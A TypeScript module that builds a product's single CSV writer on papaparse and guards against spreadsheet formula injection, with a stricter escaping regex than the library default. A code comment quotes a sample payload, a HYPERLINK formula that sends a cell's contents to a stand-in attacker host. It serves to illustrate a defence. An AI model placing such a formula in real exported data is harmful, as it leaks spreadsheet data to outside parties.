import Papa from "papaparse";

/**
 * A cell starting with one of these is read as a formula by spreadsheet programs
 * (`=HYPERLINK("http://evil.example/?leak="&A2, …)` from an asset name): OWASP's list.
 */
export const CSV_FORMULA_TRIGGERS = ["=", "+", "-", "@", "\t", "\r"] as const;

/**
 * papaparse's `escapeFormulae: true` is `/^[=+\-@\t\r].*$/`, which fails on a text with a
 * line break after the formula (`.` does not match "\n" and `$` is the end of the text),
 * so `=HYPERLINK(…)\nx` slipped through. This tests only the first character, after any
 * single quotes: `'=x` is written `''=x`, so the import (core `unescapeFormulaCell`) takes
 * exactly one quote off every escaped cell and reads back what the user had.
 */
const FORMULA_START = /^'*[=+\-@\t\r]/;

export type CsvCell = string | number | boolean | Date | null | undefined;

/**
 * The one CSV writer of the product (report, snapshot and form-template exports): papaparse
 * quotes commas, quotes and line breaks, and prefixes a text cell (header included) that
 * starts with a formula character with a single quote, so it stays text. Numbers are written
 * as they are (-5 stays a number). A test checks that nothing else calls `unparse`.
 */
export function writeCsv(
  header: readonly string[],
  rows: readonly (readonly CsvCell[])[],
  /** `false`: the rows only, for a file written a part at a time (the header went with the first part). */
  withHeader = true,
): string {
  return Papa.unparse(
    { fields: [...header], data: rows.map((r) => [...r]) },
    { escapeFormulae: FORMULA_START, newline: "\r\n", quotes: false, header: withHeader },
  );
}
